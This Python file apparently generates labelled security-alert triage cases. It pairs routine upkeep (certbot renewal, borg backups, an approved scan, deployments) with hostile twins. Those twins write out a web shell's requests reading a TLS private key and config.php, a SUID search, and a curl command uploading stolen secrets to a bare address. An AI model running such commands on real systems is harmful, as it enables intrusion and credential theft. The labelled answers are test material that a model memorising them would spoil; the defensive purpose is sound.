# ruff: noqa: E501
"""Upkeep that alarms, and hostile twins: certificates renewed, packages installed, backups, own scans, deployments."""

from datetime import datetime, timedelta
from typing import Any

from casebook import Case, Log, iso
from linux import execve, user_record
from network import eve, eve_background, signature
from web import combined, web_background


def old_syslog(when: datetime, host: str, program: str, message: str) -> str:
    """A line of the old syslog format."""
    return f"{when.strftime('%b %e %H:%M:%S')} {host} {program}: {message}"


SHOP = ("/", "/boots", "/boots/winter", "/jackets", "/cart", "/checkout", "/about", "/.well-known/security.txt")


def web_shop(case: Case) -> tuple[Log, Log, Log]:
    """A shop's web server: visitors, timers, and certbot that looks twice a day and finds nothing due."""
    access, system, certbot = case.log("access.log"), case.log("syslog"), case.log("letsencrypt.log")
    web_background(case, access, SHOP, "shop.example.org", 320, 30)
    for hour in range(30):
        when = case.after(hours=hour, minutes=17)
        system.add(when, old_syslog(when, "shop1", f"CRON[{4100 + hour}]", "(root) CMD (cd / && run-parts --report /etc/cron.hourly)"))  # fmt: skip
        then = when + timedelta(minutes=5)
        system.add(then, old_syslog(then, "shop1", "systemd[1]", "phpsessionclean.service: Deactivated successfully."))
    for hour in (3, 15):
        run_certbot(system, certbot, case.start + timedelta(hours=hour, minutes=12), is_due=False)
    return access, system, certbot


def run_certbot(system: Log, certbot: Log, when: datetime, *, is_due: bool) -> None:
    """One run of certbot's timer, with the renewal if one is due."""
    steps = ("renewal",) if is_due else ()
    told: list[tuple[float, str, str]] = [
        (0, "DEBUG:certbot._internal.main", "certbot version: 2.1.0"),
        (0.1, "DEBUG:certbot._internal.main", "Location of certbot entry point: /usr/bin/certbot"),
        (0.1, "DEBUG:certbot._internal.main", "Arguments: ['-q', '--no-random-sleep-on-renew']"),
    ]
    if is_due:
        folder = "/etc/letsencrypt/archive/shop.example.org"
        told += [
            (1.2, "INFO:certbot._internal.renewal", "Certificate is due for renewal, auto-renewing..."),
            (2.0, "DEBUG:certbot._internal.plugins.selection", "Requested authenticator webroot and installer None"),
            (3.1, "INFO:certbot._internal.auth_handler", "Performing the following challenges:"),
            (3.1, "INFO:certbot._internal.auth_handler", "http-01 challenge for shop.example.org"),
            (3.2, "INFO:certbot._internal.plugins.webroot", "Using the webroot path /var/www/shop for all unmatched domains."),
            (3.4, "DEBUG:certbot._internal.plugins.webroot", "Attempting to save validation to /var/www/shop/.well-known/acme-challenge/tXq3oYd0Zp5cVb8uN1mR7kQwE2sJ9hLfGaTiUxCzOyA"),
            (8.9, "INFO:certbot._internal.auth_handler", "Cleaning up challenges"),
            (11.3, "DEBUG:certbot._internal.storage", f"Writing new private key to {folder}/privkey9.pem."),
            (11.3, "DEBUG:certbot._internal.storage", f"Writing certificate to {folder}/cert9.pem."),
            (11.3, "DEBUG:certbot._internal.storage", f"Writing full chain to {folder}/fullchain9.pem."),
            (11.8, "INFO:certbot.compat.misc", "Running deploy-hook command: systemctl reload nginx"),
        ]  # fmt: skip
    else:
        told.append((1.1, "INFO:certbot._internal.renewal", "Certificate not yet due for renewal"))
    told.append((12, "DEBUG:certbot._internal.renewal", "no renewal failures"))
    for seconds, source, message in told:
        moment = when + timedelta(seconds=2 + seconds)
        certbot.add(moment, f"{moment.strftime('%Y-%m-%d %H:%M:%S')},{moment.microsecond // 1000:03d}:{source}:{message}", *steps)  # fmt: skip
    units = [(0, "Starting certbot.service - Certbot..."), (15, "certbot.service: Deactivated successfully."), (15, "Finished certbot.service - Certbot.")]  # fmt: skip
    if is_due:
        units += [(14, "Reloading nginx.service - A high performance web server and a reverse proxy server..."), (14, "Reloaded nginx.service - A high performance web server and a reverse proxy server.")]  # fmt: skip
    for seconds, message in units:
        moment = when + timedelta(seconds=seconds)
        system.add(moment, old_syslog(moment, "shop1", "systemd[1]", message), *(["reload"] if is_due else []))


def certificate_renewed() -> Case:
    """The authority's servers ask a hidden folder, a new private key appears and the web server reloads at night."""
    case = Case("b41_nginx_certificate_renewed", "2025-05-05 00:00:00")
    access, system, certbot = web_shop(case)
    night = case.start + timedelta(hours=27, minutes=12)
    run_certbot(system, certbot, night, is_due=True)
    validators = [case.public() for _ in range(5)]
    for turn, address in enumerate(validators):
        when = night + timedelta(seconds=6 + turn // 2)
        access.add(when, combined(when, address, "GET /.well-known/acme-challenge/tXq3oYd0Zp5cVb8uN1mR7kQwE2sJ9hLfGaTiUxCzOyA", 200, 87, agent="Mozilla/5.0 (compatible; Let's Encrypt validation server; +https://www.letsencrypt.org)"), "asked")  # fmt: skip
    case.alert = {"rule": {"id": "100232", "level": 12, "description": "Private key written under /etc/letsencrypt, hidden web folder requested by several foreign addresses"}, "agent": {"name": "shop1"}, "timestamp": iso(night + timedelta(seconds=14)), "syscheck": {"path": "/etc/letsencrypt/archive/shop.example.org/privkey9.pem", "event": "added"}, "data": {"srcip": validators[0]}}  # fmt: skip
    return case.judge(
        "benign",
        "informational low",
        "certbot's own timer, which looked twice a day and found nothing due, renews the certificate: the authority asks for the challenge that certbot had laid down, the key and certificate are written and nginx reloads.",
        steps={"renewal": "certbot renews", "asked": "the authority's servers ask for the challenge"},
        optional={"reload": "the unit runs and the web server reloads"},
        not_iocs=(*validators, "shop1"),
    )


def shell_in_the_challenge_folder() -> Case:
    """The same folder asked, but for a program that runs commands and prints the private key."""
    case = Case("m41_nginx_shell_in_challenge_folder", "2025-05-05 00:00:00")
    access, system, certbot = web_shop(case)
    night = case.start + timedelta(hours=27, minutes=12)
    run_certbot(system, certbot, night, is_due=False)
    intruder = case.public()
    folder = "/.well-known/acme-challenge/update.php"
    for seconds, request, status, size in (
        (40, "POST /media/upload.php?type=image", 200, 64), (52, f"GET {folder}", 200, 0), (60, f"GET {folder}?c=id", 200, 54), (75, f"GET {folder}?c=uname+-a", 200, 112),
        (98, f"GET {folder}?c=ls+-la+/etc/letsencrypt/live", 200, 340), (121, f"GET {folder}?c=cat+/etc/letsencrypt/live/shop.example.org/privkey.pem", 200, 1704), (160, f"GET {folder}?c=cat+/var/www/shop/config.php", 200, 2210),
    ):  # fmt: skip
        when = night + timedelta(seconds=seconds)
        access.add(when, combined(when, intruder, request, status, size, agent="python-requests/2.31.0"), "uploaded" if "POST" in request else "shell")  # fmt: skip
    case.alert = {"rule": {"id": "100233", "level": 12, "description": "Hidden web folder requested by a foreign address"}, "agent": {"name": "shop1"}, "timestamp": iso(night + timedelta(seconds=61)), "data": {"srcip": intruder, "url": folder}}  # fmt: skip
    return case.judge(
        "malicious",
        "high critical",
        "One address uploads through the shop's picture form and then calls a program in the challenge folder that runs commands and prints the private key; certbot had nothing due that night.",
        steps={"shell": "commands through the planted program"},
        optional={"uploaded": "the upload before"},
        techniques="T1505.003",
        more_techniques="T1190 T1059 T1059.004 T1033 T1082 T1083 T1552.004 T1552 T1552.001 T1005 T1036 T1036.005 T1505 T1105",
        iocs=(intruder,),
        more_iocs=("/.well-known/acme-challenge/update.php", "update.php"),
    )


def database_server_installed() -> Case:
    """An administrator installs the distribution's database server, whose package makes an account with a shell."""
    case = Case("b42_dnf_database_server_installed", "2025-06-10 00:00:00")
    secure, dnf, messages = case.log("secure"), case.log("dnf.log"), case.log("messages")

    def line(when: datetime, program: str, message: str, *steps: str) -> None:
        secure.add(when, old_syslog(when, "db1", program, message), *steps)

    def signed_in(when: datetime, user: str, address: str) -> None:
        pid = case.dice.randrange(2000, 40000)
        line(when, f"sshd[{pid}]", f"Accepted publickey for {user} from {address} port {50000 + pid % 9000} ssh2: ED25519 SHA256:p{len(user)}yW{user}0aR")  # fmt: skip
        line(when, f"sshd[{pid}]", f"pam_unix(sshd:session): session opened for user {user}(uid={1000 + len(user)}) by {user}(uid=0)")  # fmt: skip

    def as_root(when: datetime, user: str, command: str, *steps: str) -> None:
        line(when, "sudo[3300]", f"  {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND={command}", *steps)

    for day in range(4):
        for user, address in (("marta", "10.61.2.17"), ("oskar", "10.61.2.18")):
            for _ in range(6):
                when = case.after(days=day, hours=7, minutes=case.dice.randrange(540))
                signed_in(when, user, address)
                as_root(when + timedelta(minutes=1), user, case.dice.choice(("/bin/systemctl status chronyd", "/bin/dnf check-update", "/bin/journalctl -n 50", "/sbin/lvs")))  # fmt: skip
        for hour in range(24):
            when = case.after(days=day, hours=hour, minutes=1)
            messages.add(when, old_syslog(when, "db1", "systemd[1]", "Starting system activity accounting tool..."))
            messages.add(when + timedelta(seconds=1), old_syslog(when, "db1", "systemd[1]", "sysstat-collect.service: Deactivated successfully."))  # fmt: skip
        when = case.after(days=day, hours=5, minutes=20)
        dnf.add(when, f"{when.strftime('%Y-%m-%dT%H:%M:%S')}+0000 DDEBUG Command: dnf makecache --timer")
        dnf.add(when, f"{when.strftime('%Y-%m-%dT%H:%M:%S')}+0000 INFO Metadata cache refreshed recently.")
    noon = case.start + timedelta(days=3, hours=10, minutes=4)
    signed_in(noon - timedelta(minutes=3), "marta", "10.61.2.17")
    as_root(noon, "marta", "/bin/dnf -y install postgresql-server", "asked")
    for seconds, level, message in (
        (1, "DDEBUG", "Command: dnf -y install postgresql-server"), (6, "INFO", "Dependencies resolved."), (9, "INFO", "Transaction check succeeded."),
        (18, "INFO", "Installed: postgresql-13.20-1.el9_5.x86_64 postgresql-private-libs-13.20-1.el9_5.x86_64 postgresql-server-13.20-1.el9_5.x86_64"), (18, "INFO", "Complete!"),
    ):  # fmt: skip
        when = noon + timedelta(seconds=seconds)
        dnf.add(when, f"{when.strftime('%Y-%m-%dT%H:%M:%S')}+0000 {level} {message}", "installed")
    when = noon + timedelta(seconds=14)
    line(when, "groupadd[3312]", "group added to /etc/group: name=postgres, GID=26", "account")
    line(when, "groupadd[3312]", "group added to /etc/gshadow: name=postgres", "account")
    line(when, "groupadd[3312]", "new group: name=postgres, GID=26", "account")
    line(when, "useradd[3317]", "new user: name=postgres, UID=26, GID=26, home=/var/lib/pgsql, shell=/bin/bash, from=/dev/pts/0", "account")  # fmt: skip
    as_root(noon + timedelta(minutes=2), "marta", "/bin/postgresql-setup --initdb", "~after")
    as_root(noon + timedelta(minutes=3), "marta", "/bin/systemctl enable --now postgresql", "~after")
    messages.add(noon + timedelta(minutes=3), old_syslog(noon + timedelta(minutes=3), "db1", "systemd[1]", "Started PostgreSQL database server."), "~after")  # fmt: skip
    case.alert = {"name": "New local account with a login shell", "severity": "high", "time": iso(when), "host": "db1", "account": "postgres", "process": "useradd"}  # fmt: skip
    return case.judge(
        "benign",
        "informational low",
        "marta, from the desk of every day, installs the distribution's postgresql-server; its package makes the account postgres while dnf's transaction runs.",
        steps={"asked": "dnf install by sudo", "account": "the account is made", "installed": "within the package's transaction"},
        not_iocs=("marta", "10.61.2.17", "postgres"),
    )  # fmt: skip


def opened(when: datetime, serial: int, program: str, exe: str, path: str, *, uid: int, euid: int, auid: int) -> str:
    """The audit records of one file that a watch covers."""
    stamp = f"msg=audit({when.timestamp():.3f}:{serial})"
    return "\n".join(
        (
            f'type=SYSCALL {stamp}: arch=c000003e syscall=257 success=yes exit=7 a0=ffffff9c a1=7f2c a2=80000 a3=0 items=1 ppid=8100 pid=8104 auid={auid} uid={uid} gid={uid} euid={euid} suid={euid} fsuid={euid} egid={uid} sgid={uid} fsgid={uid} tty=(none) ses={4294967295 if auid == 4294967295 else 61} comm="{program}" exe="{exe}" key="secrets"',
            f'type=CWD {stamp}: cwd="/"',
            f'type=PATH {stamp}: item=0 name="{path}" inode={70000 + len(path)} dev=fd:01 mode=0100640 ouid=0 ogid=42 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0',
        )
    )


SECRETS = ("/etc/shadow", "/etc/gshadow", "/etc/ssh/ssh_host_ed25519_key", "/etc/ssl/private/mail.key", "/etc/wireguard/wg0.key", "/etc/krb5.keytab")  # fmt: skip


def audited_host(case: Case, nights: int, *, is_alerted: bool) -> Log:
    """A mail host with watches on its secrets: log-ins, timers, and borg, which reads everything at half past two."""
    log = case.log("audit.log")
    for _ in range(260):
        when, serial = case.sometime(days=nights), case.dice.randrange(100000, 400000)
        chance = case.dice.random()
        if chance < 0.4:
            log.add(when, user_record(when, serial, case.dice.choice(("CRED_ACQ", "USER_START", "CRED_DISP", "USER_END")), op="PAM:session_open", acct="root", exe="/usr/sbin/cron", hostname="?", addr="?", terminal="cron", res="success"))  # fmt: skip
        elif chance < 0.6:
            log.add(when, opened(when, serial, "unix_chkpwd", "/usr/sbin/unix_chkpwd", "/etc/shadow", uid=0, euid=0, auid=4294967295))  # fmt: skip
        else:
            exe, *arguments = case.dice.choice((("/usr/sbin/postqueue", "postqueue", "-j"), ("/usr/bin/df", "df", "-P"), ("/usr/bin/doveadm", "doveadm", "who"), ("/usr/sbin/logrotate", "logrotate", "/etc/logrotate.conf")))  # fmt: skip
            log.add(when, execve(when, serial, 0, exe, *arguments))
    for night in range(nights):
        start = case.after(days=night, hours=2, minutes=30)
        steps = () if not is_alerted else ("alerted",) if night == nights - 1 else ("before",)
        day = start.strftime("%Y-%m-%d")
        log.add(start, user_record(start, 500000 + 100 * night, "CRED_ACQ", op="PAM:setcred", grantors="pam_unix", acct="root", exe="/usr/sbin/cron", hostname="?", addr="?", terminal="cron", res="success"))  # fmt: skip
        log.add(start + timedelta(seconds=1), execve(start + timedelta(seconds=1), 500001 + 100 * night, 0, "/usr/bin/borg", "/usr/bin/borg", "create", "--compression", "zstd", f"ssh://bk@vault.example.org/./mail1::{day}", "/etc", "/home", "/root", "/var/mail"), *steps)  # fmt: skip
        for turn, path in enumerate(SECRETS):
            when = start + timedelta(seconds=4 + turn)
            log.add(when, opened(when, 500002 + 100 * night + turn, "borg", "/usr/bin/python3.11", path, uid=0, euid=0, auid=4294967295), *steps)  # fmt: skip
    return log


def backup_reads_secrets() -> Case:
    """The backup program reads the password file and all private keys, as in every night."""
    case = Case("b43_auditd_borg_reads_secrets", "2025-03-17 00:00:00")
    audited_host(case, 4, is_alerted=True)
    case.alert = {"title": "Password file and private keys read by an interpreter", "severity": "critical", "@timestamp": iso(case.start + timedelta(days=3, hours=2, minutes=30, seconds=5)), "host": {"name": "mail1"}, "process": {"name": "borg", "executable": "/usr/bin/python3.11"}, "file": {"path": "/etc/shadow"}}  # fmt: skip
    return case.judge(
        "benign",
        "informational low",
        "borg, started by cron at half past two, reads /etc, /home and /root for the house's own repository, and did the same at the same minute in each night before.",
        steps={"alerted": "this night's reading", "before": "the same in the nights before"},
        not_iocs=("vault.example.org", "/usr/bin/borg", "/etc/shadow", "mail1"),
    )


def false_backup() -> Case:
    """A program with the same name out of a hidden folder, raised to root by day, sends what it read to an address."""
    case = Case("m43_auditd_false_borg_takes_secrets", "2025-03-17 00:00:00")
    log = audited_host(case, 3, is_alerted=False)
    server = case.public()
    start = case.start + timedelta(days=3, hours=13, minutes=41)
    log.add(start, execve(start, 610000, 33, "/usr/bin/dash", "sh", "-c", "find / -perm -4000 -type f", key="exec"), "searched")  # fmt: skip
    log.add(start + timedelta(seconds=50), execve(start + timedelta(seconds=50), 610001, 33, "/var/tmp/.b/borg", "/var/tmp/.b/borg", "create", "/var/tmp/.b/all.tar", "/etc"), "alerted")  # fmt: skip
    for turn, path in enumerate(SECRETS):
        when = start + timedelta(seconds=52 + turn)
        log.add(when, opened(when, 610002 + turn, "borg", "/var/tmp/.b/borg", path, uid=33, euid=0, auid=4294967295), "alerted")  # fmt: skip
    log.add(start + timedelta(seconds=70), execve(start + timedelta(seconds=70), 610020, 33, "/usr/bin/curl", "curl", "-s", "-T", "/var/tmp/.b/all.tar", f"http://{server}:8080/u/"), "sent")  # fmt: skip
    case.alert = {"title": "Password file and private keys read by an unusual program", "severity": "critical", "@timestamp": iso(start + timedelta(seconds=52)), "host": {"name": "mail1"}, "process": {"name": "borg", "executable": "/var/tmp/.b/borg"}, "file": {"path": "/etc/shadow"}}  # fmt: skip
    return case.judge(
        "malicious",
        "high critical",
        "The web server's user looks for set-user-id programs, a program named borg in a hidden folder reads password file and keys with root's rights, and curl sends them to a bare address.",
        steps={"alerted": "password file and keys read", "sent": "sent to an address"},
        optional={"searched": "set-user-id programs searched"},
        techniques="T1003.008",
        more_techniques="T1036.005 T1036 T1048 T1048.003 T1041 T1552.004 T1548.001 T1548 T1083 T1564.001 T1068 T1560 T1059.004 T1005 T1071.001 T1567 T1003",
        iocs=(server, "/var/tmp/.b/borg"),
        more_iocs=("/var/tmp/.b/all.tar",),
        not_iocs=("vault.example.org",),
    )


PROBES = ((2024897, "ET SCAN Nikto Web App Scan in Progress", "Web Application Attack", 1), (2034647, "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)", "Attempted Administrator Privilege Gain", 1), (2010935, "ET SCAN Suspicious inbound to MSSQL port 1433", "Potentially Bad Traffic", 2), (2001219, "ET SCAN Potential SSH Scan", "Attempted Information Leak", 2), (2019232, "ET WEB_SERVER Possible CVE-2014-6271 Attempt in URI", "Attempted Administrator Privilege Gain", 1))  # fmt: skip


def scan(case: Case, log: Log, start: datetime, source: str, *steps: str) -> None:
    """Twelve servers are tried with everything a scanner knows."""
    for turn in range(96):
        when = start + timedelta(seconds=4 * turn)
        number, text, category, severity = PROBES[turn % len(PROBES)]
        log.add(when, eve(case, when, "alert", source, f"10.20.1.{10 + turn % 12}", (80, 8080, 1433, 22, 443)[turn % 5], **signature(number, text, category, severity)), *steps)  # fmt: skip


def change(number: str, **fields: Any) -> dict[str, Any]:
    """A change request as ServiceNow's table interface returns it."""
    return {"number": number, "type": "standard", "state": "Implement", "approval": "approved", **fields}


def monthly_scan() -> Case:
    """The security team's scanner tries all servers in its window; others asked for it and approved it."""
    case = Case("b44_suricata_monthly_own_scan", "2025-09-13 18:00:00")
    log = case.log("eve.json")
    eve_background(case, log, 260, 8, "10.20.3")
    scan(case, log, case.start + timedelta(hours=4, minutes=2), "10.20.0.50", "alerted")
    changes = case.log("change_request.jsonl")
    changes.add(case.after(days=-9), change("CHG0030871", short_description="Replace switch in room 2", requested_by="n.lie", assigned_to="n.lie", approved_by="h.rud", sys_created_on="2025-09-04 08:11:20", start_date="2025-09-10 20:00:00", end_date="2025-09-10 22:00:00", cmdb_ci="sw-2"))  # fmt: skip
    changes.add(case.after(days=-4), change("CHG0030902", short_description="Monthly authenticated vulnerability scan of 10.20.1.0/24 by greenbone-1 (10.20.0.50)", requested_by="s.vik", assigned_to="s.vik", approved_by="h.rud", sys_created_on="2025-09-09 09:40:02", start_date="2025-09-13 22:00:00", end_date="2025-09-14 02:00:00", cmdb_ci="greenbone-1"), "change")  # fmt: skip
    assets = case.log("assets.csv", "name,ip_address,owner,function,status")
    for name, address, owner, function in (("greenbone-1", "10.20.0.50", "security", "vulnerability scanner"), ("dc-1", "10.20.3.5", "infrastructure", "domain controller"), ("intranet", "10.20.3.7", "infrastructure", "web server"), ("erp-1", "10.20.1.12", "finance", "application server")):  # fmt: skip
        assets.add(case.start, f"{name},{address},{owner},{function},in use", *(["asset"] if name == "greenbone-1" else []))  # fmt: skip
    case.alert = {"title": "Exploit attempts from inside against twelve servers", "severity": "critical", "time": iso(case.start + timedelta(hours=4, minutes=6)), "src_ip": "10.20.0.50", "count": 96}  # fmt: skip
    return case.judge(
        "benign",
        "informational low",
        "greenbone-1, the security team's vulnerability scanner, scans the server network within the window of a change that another person approved days before.",
        steps={"alerted": "the scan", "change": "the approved change names source and window", "asset": "the inventory knows the scanner"},
        not_iocs=("10.20.0.50", "greenbone-1"),
    )  # fmt: skip


def scan_from_a_laptop() -> Case:
    """The same attempts from a guest's lease a week before the change's window, and a log-in at the end."""
    case = Case("m44_suricata_scan_from_a_lease", "2025-09-06 18:00:00")
    log = case.log("eve.json")
    eve_background(case, log, 260, 8, "10.20.3")
    start = case.start + timedelta(hours=4, minutes=2)
    scan(case, log, start, "10.20.7.61", "alerted")
    changes = case.log("change_request.jsonl")
    changes.add(case.after(days=-2), change("CHG0030902", short_description="Monthly authenticated vulnerability scan of 10.20.1.0/24 by greenbone-1 (10.20.0.50)", requested_by="s.vik", assigned_to="s.vik", approved_by="h.rud", sys_created_on="2025-09-04 09:40:02", start_date="2025-09-13 22:00:00", end_date="2025-09-14 02:00:00", cmdb_ci="greenbone-1"))  # fmt: skip
    leases = case.log("dhcpd.log")
    for turn in range(40):
        when = case.sometime(hours=8)
        leases.add(when, old_syslog(when, "gw1", "dhcpd[811]", f"DHCPACK on 10.20.7.{20 + turn % 9} to 0c:4d:e9:10:22:{turn % 9:02x} (phone-{turn % 9}) via eth1"))  # fmt: skip
    lease = start - timedelta(minutes=11)
    leases.add(lease, old_syslog(lease, "gw1", "dhcpd[811]", "DHCPACK on 10.20.7.61 to 08:00:27:5e:aa:13 (kali) via eth1"), "lease")  # fmt: skip
    auth = case.log("erp-1-auth.log")
    for turn in range(30):
        when = case.sometime(hours=8)
        auth.add(when, old_syslog(when, "erp-1", f"CRON[{900 + turn}]", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"))  # fmt: skip
    for turn in range(26):
        when = start + timedelta(minutes=8, seconds=3 * turn)
        auth.add(when, old_syslog(when, "erp-1", f"sshd[{5100 + turn}]", f"Failed password for erpadm from 10.20.7.61 port {41000 + turn} ssh2"), "guessed")  # fmt: skip
    when = start + timedelta(minutes=10)
    auth.add(when, old_syslog(when, "erp-1", "sshd[5140]", "Accepted password for erpadm from 10.20.7.61 port 41090 ssh2"), "in")  # fmt: skip
    case.alert = {"title": "Exploit attempts from inside against twelve servers", "severity": "critical", "time": iso(start + timedelta(minutes=4)), "src_ip": "10.20.7.61", "count": 96}  # fmt: skip
    return case.judge(
        "malicious",
        "high critical",
        "A machine that took a guest's lease minutes before tries all servers, guesses erpadm's password and gets in; the approved scan is another machine's, a week later.",
        steps={"alerted": "all servers are tried", "in": "erpadm's password is guessed"},
        optional={"lease": "the lease of a minute before", "guessed": "the guesses"},
        techniques="T1110.001",
        more_techniques="T1110 T1595 T1595.002 T1046 T1190 T1210 T1078 T1021.004 T1018",
        iocs=("10.20.7.61",),
        more_iocs=("erpadm", "kali", "08:00:27:5e:aa:13"),
        not_iocs=("10.20.0.50",),
    )


def test_file_of_the_scanners() -> Case:
    """The administrator fetches the industry's test file to see whether the virus scanner rings."""
    case = Case("b45_clamav_test_file", "2025-04-22 00:00:00")
    clam, auth = case.log("clamav.log"), case.log("auth.log")
    for turn in range(140):
        when = case.start + timedelta(minutes=10 * turn)
        clam.add(when, f"{when.strftime('%a %b %e %H:%M:%S %Y')} -> SelfCheck: Database status OK.")
        if turn % 5 == 0:
            file = case.dice.choice(("minutes.docx", "plan.pdf", "list.xlsx"))
            clam.add(when, f"{when.strftime('%a %b %e %H:%M:%S %Y')} -> /srv/share/office/{file}: OK")
    for _ in range(40):
        when = case.sometime(hours=23)
        user, address = case.dice.choice((("tove", "10.14.1.9"), ("pal", "10.14.1.10")))
        pid = case.dice.randrange(3000, 9000)
        auth.add(when, old_syslog(when, "files1", f"sshd[{pid}]", f"Accepted publickey for {user} from {address} port {50000 + pid} ssh2: ED25519 SHA256:q{user}71"))  # fmt: skip
        auth.add(when + timedelta(seconds=40), old_syslog(when, "files1", f"sudo[{pid + 1}]", f"{user} : TTY=pts/1 ; PWD=/home/{user} ; USER=root ; COMMAND={case.dice.choice(('/usr/bin/smbstatus', '/usr/bin/freshclam', '/usr/bin/df -h'))}"))  # fmt: skip
    start = case.start + timedelta(hours=9, minutes=30)
    auth.add(start, old_syslog(start, "files1", "sudo[7001]", "tove : TTY=pts/1 ; PWD=/home/tove ; USER=root ; COMMAND=/usr/bin/wget -P /srv/share/it https://secure.eicar.org/eicar.com"), "fetched")  # fmt: skip
    found = start + timedelta(seconds=3)
    clam.add(found, f"{found.strftime('%a %b %e %H:%M:%S %Y')} -> /srv/share/it/eicar.com: Win.Test.EICAR_HDB-1(44d88612fea8a8f36de82e1278abb02f:68) FOUND", "found")  # fmt: skip
    clam.add(found + timedelta(seconds=1), f"{(found + timedelta(seconds=1)).strftime('%a %b %e %H:%M:%S %Y')} -> /srv/share/it/eicar.com: moved to '/var/lib/clamav/quarantine/eicar.com'", "found")  # fmt: skip
    gone = start + timedelta(minutes=2)
    auth.add(gone, old_syslog(gone, "files1", "sudo[7044]", "tove : TTY=pts/1 ; PWD=/home/tove ; USER=root ; COMMAND=/usr/bin/rm /var/lib/clamav/quarantine/eicar.com"), "~removed")  # fmt: skip
    case.alert = {"alert": "Malware detected on file server", "severity": "critical", "time": iso(found), "host": "files1", "file": "/srv/share/it/eicar.com", "signature": "Win.Test.EICAR_HDB-1"}  # fmt: skip
    return case.judge(
        "benign",
        "informational low",
        "tove fetches the EICAR test file from its own site; the scanner recognises it as the harmless test that it is.",
        steps={"found": "the scanner finds its test file", "fetched": "an administrator fetched it from EICAR"},
        not_iocs=("tove", "secure.eicar.org", "/srv/share/it/eicar.com", "44d88612fea8a8f36de82e1278abb02f"),
    )


def deployed_in_the_evening() -> Case:
    """The pipeline's runner logs in on six hosts within a minute, as at every deployment, started by a person."""
    case = Case("b46_gitlab_runner_deploys", "2025-10-06 00:00:00")
    hosts, gitlab = case.log("hosts-auth.log"), case.log("production_json.log")
    people = {"ingvild": ("10.30.5.21", 14), "trond": ("10.30.5.22", 15), "yan": ("10.30.5.23", 19)}

    def asked(when: datetime, user: str, method: str, path: str, controller: str, action: str, *steps: str) -> None:
        address, number = people[user]
        gitlab.add(when, {"method": method, "path": path, "format": "html", "controller": controller, "action": action, "status": 302 if method == "POST" else 200, "time": iso(when, 3), "params": [{"key": "id", "value": path.rsplit("/", 2)[-2]}], "correlation_id": f"01J{case.hex(23).upper()}", "meta.user": user, "meta.project": "shop/api", "remote_ip": address, "user_id": number, "username": user, "ua": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", "duration_s": 0.21}, *steps)  # fmt: skip

    def deployment(when: datetime, job: int, user: str, step: str) -> None:
        asked(when, user, "POST", f"/shop/api/-/jobs/{job}/play", "Projects::JobsController", "play", "started" if step == "alerted" else step)  # fmt: skip
        for turn in range(6):
            at, pid = when + timedelta(seconds=20 + 7 * turn), 7000 + job % 1000 + turn
            host = f"app{turn + 1}"
            hosts.add(at, old_syslog(at, host, f"sshd[{pid}]", f"Accepted publickey for deploy from 10.30.2.9 port {39000 + pid} ssh2: ED25519 SHA256:7hRkz0dEployKey1aQ"), step)  # fmt: skip
            hosts.add(at, old_syslog(at, host, f"sshd[{pid}]", "pam_unix(sshd:session): session opened for user deploy(uid=1010) by (uid=0)"), step)  # fmt: skip
            hosts.add(at + timedelta(seconds=2), old_syslog(at + timedelta(seconds=2), host, f"sudo[{pid + 9}]", "deploy : PWD=/srv/api ; USER=root ; COMMAND=/usr/bin/systemctl restart api.service"), step)  # fmt: skip
            hosts.add(at + timedelta(seconds=5), old_syslog(at + timedelta(seconds=5), host, f"sshd[{pid}]", "pam_unix(sshd:session): session closed for user deploy"), step)  # fmt: skip

    for day in range(4):
        for user in people:
            for _ in range(12):
                when = case.after(days=day, hours=7, minutes=case.dice.randrange(560))
                number = case.dice.randrange(300, 420)
                asked(when, user, "GET", f"/shop/api/-/merge_requests/{number}/diffs", "Projects::MergeRequestsController", "show")  # fmt: skip
        if day < 3:
            for turn, hour in enumerate((9, 13)):
                deployment(case.after(days=day, hours=hour, minutes=20), 8800 + 10 * day + turn, ("ingvild", "yan")[turn], "before")  # fmt: skip
    evening = case.start + timedelta(days=3, hours=20, minutes=41)
    asked(evening - timedelta(minutes=6), "trond", "POST", "/shop/api/-/merge_requests/417/merge", "Projects::MergeRequestsController", "merge", "~merged")  # fmt: skip
    deployment(evening, 8841, "ingvild", "alerted")
    case.alert = {"title": "One account logged in on six hosts within a minute and restarted services as root", "severity": "high", "time": iso(evening + timedelta(seconds=60)), "user": "deploy", "src": "10.30.2.9", "hosts": 6}  # fmt: skip
    return case.judge(
        "benign",
        "informational low",
        "ingvild starts the deployment job after trond's merge; the runner logs in on the six hosts with its own key and restarts the service, exactly as in the deployments of the days before.",
        steps={"alerted": "the log-ins and restarts", "started": "the job was started by a person", "before": "the same at every deployment"},
        not_iocs=("deploy", "10.30.2.9", "ingvild"),
    )  # fmt: skip


CASES = (
    certificate_renewed, shell_in_the_challenge_folder, database_server_installed, backup_reads_secrets, false_backup,
    monthly_scan, scan_from_a_laptop, test_file_of_the_scanners, deployed_in_the_evening,
)  # fmt: skip
